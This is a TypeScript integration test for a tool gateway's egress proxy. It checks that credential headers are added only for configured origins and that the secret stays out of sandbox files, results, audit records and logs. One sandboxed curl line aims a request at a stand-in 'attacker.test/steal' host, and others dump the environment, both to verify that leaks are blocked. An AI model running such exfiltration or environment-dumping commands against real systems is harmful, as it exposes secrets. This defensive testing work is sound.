/**
 * Credentials for a network-enabled sandbox (docs/credentials.md), the whole path: a manifest
 * tool with `network: true` called through the gateway, run by the worker in a Docker sandbox
 * whose curl goes through the egress proxy. The proxy adds the rule's header over plain http
 * and over HTTPS it terminates with its CA; HTTPS to a host without a rule is the real host's
 * TLS, tunnelled, without the header. The value is nowhere in the sandbox (env,
 * /proc/self/environ, workspace), the result, the audit log or the worker's log.
 */
import { randomBytes } from 'node:crypto';
import { mkdtemp, readdir, readFile, rm } from 'node:fs/promises';
import { createServer as createHttpServer, type IncomingHttpHeaders, type Server } from 'node:http';
import { createServer as createHttpsServer } from 'node:https';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { Writable } from 'node:stream';
import { createLogger } from '@toolgate/log';
import { manifestTool, parseManifest } from '@toolgate/manifest-tools';
import { createSandbox, createWorkspaces, type Sandbox } from '@toolgate/sandbox';
import { testSandboxConfig, whyDriverUnavailable } from '@toolgate/sandbox/testing';
import { EgressCa, startEgressProxy } from '@toolgate/tools';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { KEYS, startStack, type Stack } from '../support/stack.js';

const reason = await whyDriverUnavailable('docker');
if (reason) console.warn(`sandbox credentials: skipped, ${reason}`);

const VALUE = `sbx-${randomBytes(12).toString('hex')}`;

describe.skipIf(reason !== undefined)('credentials in network sandboxes (docker)', () => {
  let dir: string;
  let sandbox: Sandbox;
  let stack: Stack;
  let upstreamCa: EgressCa;
  let https: Server;
  let http: Server;
  let https443: Server;
  let httpsPort: number;
  let httpPort: number;
  const seen: { path: string | undefined; headers: IncomingHttpHeaders }[] = [];
  const logLines: string[] = [];
  // The test hosts' address: a loopback address of this run's own, so its port 443 (what a
  // bare-host rule means) is free of anything else on the machine.
  const octet = () => 2 + Math.floor(Math.random() * 250);
  const address = `127.${octet()}.${octet()}.${octet()}`;

  const listen = async (server: Server, port = 0) => {
    await new Promise<void>((resolve) => server.listen(port, address, resolve));
    return (server.address() as { port: number }).port;
  };

  beforeAll(async () => {
    dir = await mkdtemp(path.join(tmpdir(), 'tg-sbx-cred-'));
    // The real hosts, on the worker's loopback: https with a certificate of a CA of its own.
    upstreamCa = new EgressCa('test upstream CA');
    const record = (
      req: import('node:http').IncomingMessage,
      res: import('node:http').ServerResponse,
    ) => {
      seen.push({ path: req.url, headers: req.headers });
      res.end(`reached ${req.url}\n`);
    };
    https = createHttpsServer(
      { SNICallback: (name, cb) => cb(null, upstreamCa.contextFor(name)) },
      record,
    );
    https443 = createHttpsServer(
      { SNICallback: (name, cb) => cb(null, upstreamCa.contextFor(name)) },
      record,
    );
    http = createHttpServer(record);
    httpsPort = await listen(https);
    httpPort = await listen(http);
    await listen(https443, 443);

    sandbox = await createSandbox(
      testSandboxConfig('docker', path.join(dir, 'sb'), { allowNetwork: true, pool: { size: 0 } }),
      {
        startEgressProxy: (host, identify, credentialsOf) =>
          startEgressProxy({
            host,
            identify,
            ...(credentialsOf ? { credentialsOf } : {}),
            // api.test and plain.test are these loopback servers, opened by name.
            policy: { allowPrivateNetworks: false, allowHosts: ['api.test', 'plain.test'] },
            lookup: () => Promise.resolve([{ address, family: 4 }]),
            upstreamCa: [upstreamCa.certPem],
          }),
      },
    );
    await sandbox.start();

    const script = [
      'set -u',
      // HTTPS to the host with a rule: terminated by the proxy, trusted through SSL_CERT_FILE.
      `curl -sS -v https://api.test:${httpsPort}/secure 2>/workspace/https.log`,
      'curl -sS https://api.test/default',
      `curl -sS http://api.test:${httpPort}/plain`,
      // Inside the terminated tunnel to api.test, a request line naming another host: the
      // proxy answers it (421) and the server never sees it.
      `curl -sS -o /dev/null -w 'steal=%{http_code}\\n' --request-target https://attacker.test/steal https://api.test:${httpsPort}/`,
      // HTTPS to a host without a rule: the real host's certificate, which this sandbox does
      // not trust (-k), seen through the tunnel as it is.
      `curl -sS -k -v https://plain.test:${httpsPort}/tunnel 2>/workspace/tunnel.log`,
      'env > /workspace/env.txt',
      'cat /proc/self/environ | tr "\\0" "\\n" > /workspace/environ.txt',
      'echo "ca=$SSL_CERT_FILE"',
    ].join('\n');
    const tool = manifestTool({
      manifest: parseManifest({
        name: 'call_api',
        description: 'calls the test APIs from a network sandbox',
        parameters: { type: 'object' },
        image: 'shell',
        command: ['bash', '-c', script],
        network: true,
        workspace: true,
        output: 'text',
        timeoutSeconds: 30,
      }),
      dir,
      files: [],
    });

    const logger = createLogger(
      'test',
      { level: 'debug' },
      new Writable({
        write(chunk: Buffer, _enc, done) {
          logLines.push(chunk.toString());
          done();
        },
      }),
    );
    stack = await startStack({
      tools: [tool],
      logger,
      services: { sandbox, workspaces: createWorkspaces(sandbox.config) },
      config: {
        // A rule binds scheme and port: the two test servers are two origins of api.test.
        credentials: [
          {
            host: `https://api.test:${httpsPort}`,
            header: 'Authorization',
            value: 'Bearer ${secret:api_token}',
          },
          {
            host: `http://api.test:${httpPort}`,
            header: 'Authorization',
            value: 'Bearer ${secret:api_token}',
          },
          // A bare host: api.test's HTTPS API on 443, and nothing else.
          { host: 'api.test', header: 'X-Https-Only', value: '${secret:api_token}' },
        ],
        secrets: { key: randomBytes(32).toString('hex') },
      },
    });
  }, 120_000);

  afterAll(async () => {
    await stack?.close();
    await sandbox?.close();
    https?.close();
    https443?.close();
    http?.close();
    if (dir) await rm(dir, { recursive: true, force: true });
  });

  it('adds the header over http and terminated https only, and the value stays out of the sandbox and every record', async () => {
    const put = await stack.call('/v1/secrets/alice/api_token', {
      key: KEYS.admin,
      method: 'PUT',
      json: { value: VALUE },
    });
    expect(put.status).toBe(201);

    const res = await stack.call('/tools/call_api/execute', { json: {} });
    const text = await res.text();
    const outcome = JSON.parse(text) as { id: string; status: string; result: string };
    expect(outcome.status).toBe('ok');
    expect(outcome.result).toContain('reached /secure');
    expect(outcome.result).toContain('reached /plain');
    expect(outcome.result).toContain('reached /tunnel');
    expect(outcome.result).toContain('steal=421');
    expect(seen.map((s) => s.path)).not.toContain('https://attacker.test/steal');
    expect(seen.map((s) => s.path)).not.toContain('/steal');
    expect(outcome.result).toContain('ca=/etc/toolgate/ca-bundle.pem');

    const by = (p: string) => seen.find((s) => s.path === p)!.headers;
    expect(by('/secure').authorization).toBe(`Bearer ${VALUE}`);
    expect(by('/plain').authorization).toBe(`Bearer ${VALUE}`);
    expect(by('/tunnel').authorization).toBeUndefined();
    // Each rule reached its own origin only: the bare host's https on 443, nothing in clear.
    expect(outcome.result).toContain('reached /default');
    expect(by('/default')['x-https-only']).toBe(VALUE);
    expect(by('/default').authorization).toBeUndefined();
    expect(seen.filter((s) => s.headers['x-https-only'] !== undefined).map((s) => s.path)).toEqual([
      '/default',
    ]);

    // Inside the sandbox: the certificate curl was shown for api.test is the proxy's CA's; for
    // plain.test the real host's.
    const files = await collect(sandbox.config.workspacesRoot);
    const https = files.find((f) => f.name.endsWith('https.log'))!.text;
    const tunnel = files.find((f) => f.name.endsWith('tunnel.log'))!.text;
    expect(https).toMatch(/issuer: .*toolgate egress CA/);
    expect(tunnel).toMatch(/issuer: .*test upstream CA/);
    expect(files.find((f) => f.name.endsWith('env.txt'))!.text).toContain('SSL_CERT_FILE=');
    expect(files.find((f) => f.name.endsWith('environ.txt'))!.text, outcome.result).toContain(
      'HTTPS_PROXY=',
    );
    for (const f of files) expect(f.text, f.name).not.toContain(VALUE);

    expect(text).not.toContain(VALUE);
    expect(await (await stack.call(`/v1/calls/${outcome.id}`)).text()).not.toContain(VALUE);
    let audit = '';
    for (let i = 0; i < 100 && !audit.includes(outcome.id); i++) {
      await new Promise((r) => setTimeout(r, 20));
      audit = await (
        await stack.call(`/v1/audit?callId=${outcome.id}`, { key: KEYS.admin })
      ).text();
    }
    expect(audit).toContain(outcome.id);
    expect(audit).not.toContain(VALUE);
    expect(logLines.some((l) => l.includes(outcome.id))).toBe(true);
    expect(logLines.join('')).not.toContain(VALUE);
  }, 60_000);
});

/** Every file under `root`, as text. */
async function collect(root: string): Promise<{ name: string; text: string }[]> {
  const out: { name: string; text: string }[] = [];
  const walk = async (d: string) => {
    for (const entry of await readdir(d, { withFileTypes: true })) {
      const p = path.join(d, entry.name);
      if (entry.isDirectory()) await walk(p);
      else if (entry.isFile()) out.push({ name: p, text: await readFile(p, 'utf8') });
    }
  };
  await walk(root);
  return out;
}
